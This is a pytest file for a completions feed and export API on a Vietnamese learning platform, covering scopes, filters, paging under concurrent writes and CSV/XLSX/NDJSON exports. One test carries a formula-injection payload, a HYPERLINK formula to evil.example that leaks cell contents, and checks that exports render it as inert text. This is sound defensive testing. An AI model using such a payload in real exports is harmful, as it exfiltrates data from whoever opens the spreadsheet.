"""GET /api/v1/completions (the feed) and /export: scopes, filters, keyset paging under concurrent writes,
streaming exports in constant memory."""

import asyncio
import csv
import io
import json
import random
import uuid
from datetime import UTC, datetime

import openpyxl
import psutil
import pytest
from sqlalchemy import String, cast, func, insert, literal, select, text, true

from app.core import spreadsheets
from app.models.base import UTCDateTime
from app.models.completion import Completion
from app.models.course import Course
from app.models.identity import Audience, Role, User
from app.services.completion import feed_items
from app.services.completion.completions import record_completion
from tests.factories import auth, make_course, make_user, service_token, token_for
from tests.factories.reporting import ON_POSTGRES, complete, live_app, read_feed  # noqa: F401  (live_app: the `live` fixture)
from tests.private_pg import feed_database_url, settings_on_private_server  # noqa: F401 (the feed's horizon)

READ = ["completions:read"]


def reader(keyring, settings, *, province: str | None = None, scopes=READ) -> dict[str, str]:
    return auth(service_token(keyring, settings, scopes=scopes, province=province))


# --- who may read -----------------------------------------------------------------------------------------


async def test_anonymous_caller_gets_401(client):
    r = await client.get("/api/v1/completions")
    assert r.status_code == 401 and r.headers["content-type"] == "application/problem+json"


async def test_users_and_clients_without_the_scope_get_403(client, session, keyring, settings):
    admin = await make_user(session, role=Role.ministry_admin)
    for headers in (auth(token_for(keyring, settings, admin)), reader(keyring, settings, scopes=["stats:read"])):
        assert (await client.get("/api/v1/completions", headers=headers)).status_code == 403
        assert (await client.get("/api/v1/completions/export", headers=headers)).status_code == 403


async def test_malformed_cursor_and_oversized_limit_are_422(client, keyring, settings):
    headers = reader(keyring, settings)
    r = await client.get("/api/v1/completions", params={"cursor": "not-a-cursor"}, headers=headers)
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "cursor"
    r = await client.get("/api/v1/completions", params={"limit": 1001}, headers=headers)
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "limit"


# --- paging -------------------------------------------------------------------------------------------------


async def test_pages_serve_every_completion_once_and_resume_later(live, keyring, settings):
    async def five(session):
        return [(await complete(session, full_name=f"Học viên {i}")).id for i in range(5)]

    written = await live.arrange(five)
    headers = reader(keyring, settings)
    items, cursor = await read_feed(live.client, headers, expected=5, limit=2)
    assert [uuid.UUID(i["id"]) for i in items] == written
    assert items[0]["full_name"] == "Học viên 0" and items[0]["audience"] == "citizen"

    async def one_more(session):
        return (await complete(session)).id

    later = await live.arrange(one_more)
    more, cursor = await read_feed(live.client, headers, expected=1, cursor=cursor)
    assert [uuid.UUID(i["id"]) for i in more] == [later]
    again, resumed = await read_feed(live.client, headers, cursor=cursor)
    assert again == [] and resumed == cursor


async def test_empty_page_keeps_the_cursor(live, keyring, settings):
    headers = reader(keyring, settings)
    r = await live.client.get("/api/v1/completions", headers=headers)
    assert r.json() == {"items": [], "next_cursor": None, "has_more": False}


async def test_filters_by_province_with_former_units_audience_course_and_local_days(live, keyring, settings):
    async def arrange(session):
        course = (await make_course(session, lessons=[])).course
        ids = {
            "bac_kan": (await complete(session, province="06", course=course)).id,
            "thai_nguyen": (await complete(session, province="19", audience="official")).id,
            "ha_noi": (await complete(session, province="01", course=course)).id,
            # 17:30 UTC on 31 March is 1 April in Hà Nội.
            "april": (await complete(session, province="01", at=datetime(2026, 3, 31, 17, 30, tzinfo=UTC))).id,
        }
        return course, ids

    course, ids = await live.arrange(arrange)
    headers = reader(keyring, settings)

    async def ids_for(**params):
        items, _ = await read_feed(live.client, headers, expected=1, timeout_s=2, **params)
        return {uuid.UUID(i["id"]) for i in items}

    await read_feed(live.client, headers, expected=4)
    assert await ids_for(province="19") == {ids["bac_kan"], ids["thai_nguyen"]}
    assert await ids_for(audience="official") == {ids["thai_nguyen"]}
    assert await ids_for(course=course.slug) == {ids["bac_kan"], ids["ha_noi"]}
    assert await ids_for(**{"from": "2026-04-01", "to": "2026-04-30"}) == {ids["april"]}
    bac_kan = (await read_feed(live.client, headers, province="19", audience="citizen"))[0][0]
    assert (bac_kan["province_code"], bac_kan["current_province_code"]) == ("06", "19")


async def test_a_province_scoped_client_sees_only_its_province(live, keyring, settings):
    async def arrange(session):
        return (await complete(session, province="22")).id, (await complete(session, province="19")).id

    quang_ninh, _ = await live.arrange(arrange)
    headers = reader(keyring, settings, province="22")
    items, _ = await read_feed(live.client, headers, expected=1)
    assert [uuid.UUID(i["id"]) for i in items] == [quang_ninh]
    r = await live.client.get("/api/v1/completions", params={"province": "19"}, headers=headers)
    assert r.status_code == 403


async def test_a_full_page_is_served_again_as_is_but_the_last_page_picks_up_new_completions(live, keyring,
                                                                                          settings):
    async def three(session):
        return [(await complete(session)).id for _ in range(3)]

    written = await live.arrange(three)
    headers = reader(keyring, settings)
    await read_feed(live.client, headers, expected=3)
    first = await live.client.get("/api/v1/completions", params={"limit": 2}, headers=headers)
    assert first.json()["has_more"] and first.content == (
        await live.client.get("/api/v1/completions", params={"limit": 2}, headers=headers)).content
    after_first = first.json()["next_cursor"]
    last, _ = await read_feed(live.client, headers, cursor=after_first, limit=2)
    assert [uuid.UUID(i["id"]) for i in last] == written[2:]

    async def one_more(session):
        return (await complete(session)).id

    later = await live.arrange(one_more)
    for _ in range(100):  # the same request as before; on PostgreSQL the new row is served within ms
        grown = (await live.client.get("/api/v1/completions", params={"limit": 2, "cursor": after_first},
                                       headers=headers)).json()["items"]
        if len(grown) == 2:
            break
        await asyncio.sleep(0.02)
    assert [uuid.UUID(i["id"]) for i in grown] == [written[2], later]


# --- concurrent writers -------------------------------------------------------------------------------------


PROVINCES = ["01", "04", "08", "11", "12", "14", "15", "19", "20", "22", "24", "25", "31", "33", "37", "38",
             "40", "42", "44", "46", "48", "51", "52", "56"]


async def _learners_and_courses(live, n: int) -> list[tuple[uuid.UUID, uuid.UUID]]:
    """n (learner, course) pairs that share no counter bucket, so their writers never wait on each other."""

    async def arrange(session):
        return [((await make_user(session, province_code=PROVINCES[i])).id,
                 (await make_course(session, lessons=[])).course.id) for i in range(n)]

    return await live.arrange(arrange)


async def _record(live, user_id, course_id, *, hold: asyncio.Event | None = None,
                  inserted: asyncio.Event | None = None, delay_s: float = 0) -> Completion:
    async with live.db.session() as session:
        user, course = await session.get(User, user_id), await session.get(Course, course_id)
        completion, _ = await record_completion(session, user=user, course=course, course_version=1)
        if inserted:
            inserted.set()
        if hold:
            await hold.wait()
        await asyncio.sleep(delay_s)
    return completion


@pytest.mark.skipif(not ON_POSTGRES, reason="SQLite serialises writers, so commits cannot overtake each other")
async def test_a_completion_committed_after_a_newer_one_is_neither_missed_nor_repeated(live, keyring, settings):
    first, second = await _learners_and_courses(live, 2)
    headers = reader(keyring, settings)
    inserted, release = asyncio.Event(), asyncio.Event()
    slow = asyncio.create_task(_record(live, *first, hold=release, inserted=inserted))
    await inserted.wait()
    fast = await _record(live, *second)  # inserted later, committed first

    seen, cursor = await read_feed(live.client, headers)
    assert str(fast.id) not in {i["id"] for i in seen}  # held back while an older transaction is open
    release.set()
    slow_completion = await slow
    assert slow_completion.seq < fast.seq  # commit order differs from id order

    rest, _ = await read_feed(live.client, headers, expected=2 - len(seen), cursor=cursor)
    assert [i["id"] for i in seen + rest] == [str(slow_completion.id), str(fast.id)]


async def test_paging_while_writers_commit_out_of_order_collects_each_completion_once(live, keyring, settings):
    pairs = await _learners_and_courses(live, 24)
    headers = reader(keyring, settings)
    rng = random.Random(7)

    async def writer(user_id, course_id):
        await asyncio.sleep(rng.uniform(0, 0.05))
        return await _record(live, user_id, course_id, delay_s=rng.uniform(0, 0.03))

    writers = asyncio.gather(*(writer(*pair) for pair in pairs))
    collected, cursor = [], None
    while not writers.done():
        page, cursor = await read_feed(live.client, headers, cursor=cursor, limit=3)
        collected += page
        await asyncio.sleep(0.005)
    written = await writers
    rest, _ = await read_feed(live.client, headers, cursor=cursor, expected=len(pairs) - len(collected))
    ids = [i["id"] for i in collected + rest]
    assert len(ids) == len(set(ids)) == len(pairs)
    assert set(ids) == {str(c.id) for c in written}


# --- export -------------------------------------------------------------------------------------------------


async def test_csv_export_starts_with_a_bom_and_keeps_vietnamese_names(live, keyring, settings):
    async def arrange(session):
        await complete(session, province="06", full_name="Đặng Thị Ánh Tuyết")
        await complete(session, province="22")

    await live.arrange(arrange)
    headers = reader(keyring, settings)
    await read_feed(live.client, headers, expected=2)
    r = await live.client.get("/api/v1/completions/export", params={"province": "19"}, headers=headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 1
    assert rows[0]["full_name"] == "Đặng Thị Ánh Tuyết" and rows[0]["current_province_code"] == "19"


async def test_ndjson_export_matches_the_feed(live, keyring, settings):
    async def arrange(session):
        for _ in range(3):
            await complete(session, audience="official")

    await live.arrange(arrange)
    headers = reader(keyring, settings)
    feed, _ = await read_feed(live.client, headers, expected=3)
    r = await live.client.get("/api/v1/completions/export", params={"format": "ndjson"}, headers=headers)
    assert r.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in r.text.splitlines()]
    assert lines == feed


async def test_csv_export_has_local_times_and_offers_semicolons(live, keyring, settings):
    async def arrange(session):
        learner = await make_user(session, province_code="01")
        learner.assurance = "eid"
        await complete(session, user=learner, province="01", at=datetime(2026, 12, 3, 23, 30, tzinfo=UTC))

    await live.arrange(arrange)
    headers = reader(keyring, settings)
    await read_feed(live.client, headers, expected=1)
    r = await live.client.get("/api/v1/completions/export", params={"delimiter": ";"}, headers=headers)
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0]["province_code"] == "01"
    assert rows[0]["completed_at"] == "2026-12-03T23:30:00Z"
    assert rows[0]["completed_at_local"] == "2026-12-04T06:30:00+07:00"  # 4 December in Hà Nội
    assert rows[0]["assurance"] == "eid"  # the level the completion was recorded at
    r = await live.client.get("/api/v1/completions/export", params={"delimiter": "|"}, headers=headers)
    assert r.status_code == 422


async def test_xlsx_export_has_local_dates_codes_as_text_and_names_beside_codes(live, keyring, settings):
    async def arrange(session):
        await complete(session, province="01", at=datetime(2026, 12, 3, 23, 30, tzinfo=UTC),
                       full_name="Đặng Thị Ánh Tuyết")

    await live.arrange(arrange)
    headers = reader(keyring, settings)
    await read_feed(live.client, headers, expected=1)
    r = await live.client.get("/api/v1/completions/export", params={"format": "xlsx"}, headers=headers)
    assert r.status_code == 200 and r.headers["content-type"] == spreadsheets.XLSX_MEDIA_TYPE
    assert r.headers["content-disposition"].endswith('.xlsx"')
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert ws.title == "Lượt hoàn thành" and ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    row = dict(zip(header, [c.value for c in ws[2]], strict=True))
    assert row["Thời điểm hoàn thành (giờ Việt Nam)"] == datetime(2026, 12, 4, 6, 30)
    assert row["Họ và tên"] == "Đặng Thị Ánh Tuyết" and row["Khóa học"] == "Kỹ năng số cơ bản"
    assert row["Mã tỉnh hiện nay"] == "01" and row["Tỉnh, thành phố hiện nay"] == "Hà Nội"
    assert row["Đối tượng"] == "Người dân" and row["Mức bảo đảm"] == "Chưa xác minh"
    code_cell = ws.cell(2, header.index("Mã tỉnh hiện nay") + 1)
    assert code_cell.data_type == "s" and code_cell.number_format == "@"
    english = await live.client.get("/api/v1/completions/export", params={"format": "xlsx"},
                                    headers={**headers, "Accept-Language": "en"})
    ws = openpyxl.load_workbook(io.BytesIO(english.content)).active
    assert ws["A1"].value == "Completed at (Vietnam time)" and ws["F2"].value == "Citizen"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_a_learner_named_like_a_formula_is_exported_as_text(live, keyring, settings, fmt):
    """Issue 18 item 1: a name typed by a learner must never run in the ministry's spreadsheet."""
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'

    async def arrange(session):
        await complete(session, full_name=attack)

    await live.arrange(arrange)
    headers = reader(keyring, settings)
    await read_feed(live.client, headers, expected=1)
    r = await live.client.get("/api/v1/completions/export", params={"format": fmt}, headers=headers)
    if fmt == "csv":
        row = next(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
        assert row["full_name"] == "'" + attack
    else:
        cell = openpyxl.load_workbook(io.BytesIO(r.content)).active["B2"]
        assert cell.value == attack and cell.data_type == "s" and cell.quotePrefix


async def _bulk_completions(live, users: int, courses: int) -> int:
    """users × courses completions in one INSERT … SELECT: no ORM objects, so arranging stays fast."""

    async def arrange(session):
        marker = uuid.uuid4().hex[:8]
        await session.execute(insert(User), [
            {"id": uuid.uuid4(), "email": f"bulk-{marker}-{i}@example.vn", "full_name": f"Lê Văn Số {i}",
             "search_text": "", "audience": Audience.citizen, "role": Role.learner, "province_code": "19",
             "is_active": True, "created_at": datetime.now(UTC)} for i in range(users)])
        await session.execute(insert(Course), [
            {"id": uuid.uuid4(), "slug": f"bulk-{marker}-{i}", "enrollment_count": 0,
             "created_at": datetime.now(UTC)} for i in range(courses)])
        postgres = session.get_bind().dialect.name == "postgresql"
        if not postgres:  # room for the indexes in SQLite's page cache, or the insert waits on the disk
            await session.execute(text("PRAGMA cache_size=-65536"))
        new_id = func.gen_random_uuid() if postgres else func.lower(func.hex(func.randomblob(16)))
        when = datetime(2026, 3, 10, 3, 0, tzinfo=UTC)
        at = literal(when, UTCDateTime())
        # Every row carries one item of the real size and shape, naming its own completion as every write
        # path does (a PostgreSQL page finds its last position through the last item's id).
        placeholder = uuid.uuid4()
        item = feed_items.render(
            id=placeholder, user_id=uuid.uuid4(), full_name="Lê Văn Số 1", course_id=uuid.uuid4(),
            course_slug=f"bulk-{marker}-1", course_version=1, audience="citizen", assurance="none",
            province_code="06", current_province_code="19", source="platform", client_id=None, external_ref=None,
            completed_at=when)
        pairs = select(new_id.label("id"), User.id.label("user_id"), Course.id.label("course_id")).select_from(
            User).join(Course, true()).where(
            User.email.like(f"bulk-{marker}-%"), Course.slug.like(f"bulk-{marker}-%")).subquery()
        rows = select(
            pairs.c.id, func.txid_current() if postgres else literal(0), pairs.c.user_id, pairs.c.course_id,
            literal(1), literal("citizen"), literal("06"), literal("19"), literal("platform"), at, at,
            func.replace(literal(item), str(placeholder), cast(pairs.c.id, String)),
        )
        result = await session.execute(insert(Completion).from_select(
            ["id", "txid", "user_id", "course_id", "course_version", "audience", "province_code",
             "current_province_code", "source", "completed_at", "created_at", "feed_item"], rows))
        return result.rowcount

    return await live.arrange(arrange)


async def _stream(app, path: str, headers: dict[str, str]) -> tuple[int, int, int]:
    """Drive the ASGI app directly and throw each chunk away, so only the server's memory is measured.
    Returns (status, lines received, peak RSS growth in bytes)."""
    process = psutil.Process()
    baseline = peak = process.memory_info().rss
    status, lines, done = 0, 0, asyncio.Event()
    path, _, query = path.partition("?")
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET",
             "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": query.encode(),
             "root_path": "", "client": ("127.0.0.1", 5000), "server": ("test", 80),
             "headers": [(b"host", b"test")] + [(k.lower().encode(), v.encode()) for k, v in headers.items()]}
    requested = False

    async def receive():
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await done.wait()
        return {"type": "http.disconnect"}

    async def send(message):
        nonlocal status, lines, peak
        if message["type"] == "http.response.start":
            status = message["status"]
        elif message["type"] == "http.response.body":
            lines += message.get("body", b"").count(b"\n")
            peak = max(peak, process.memory_info().rss)
            if not message.get("more_body"):
                done.set()

    await app(scope, receive, send)
    return status, lines, peak - baseline


async def _first_page_ready(live, headers) -> None:
    """Wait (as a consumer would) until committed rows are past the feed's horizon."""
    for _ in range(500):
        r = await live.client.get("/api/v1/completions", params={"limit": 1}, headers=headers)
        if r.json()["items"]:
            return
        await asyncio.sleep(0.02)
    raise AssertionError("no completion became visible in the feed")


async def test_export_of_100000_rows_streams_in_constant_memory(live, keyring, settings):
    total = await _bulk_completions(live, users=400, courses=250)
    assert total == 100_000
    headers = reader(keyring, settings)
    await _first_page_ready(live, headers)
    status, lines, growth = await _stream(live.app, "/api/v1/completions/export?format=csv", headers)
    assert status == 200
    assert lines == total + 1  # header + one line per completion
    print(f"export of 100,000 rows: peak RSS growth {growth / 1024 / 1024:.1f} MB")
    # Holding 100,000 rows at once would take well over 100 MB; chunks of 1,000 keep growth to a few MB.
    assert growth < 40 * 1024 * 1024, f"RSS grew by {growth / 1e6:.1f} MB"
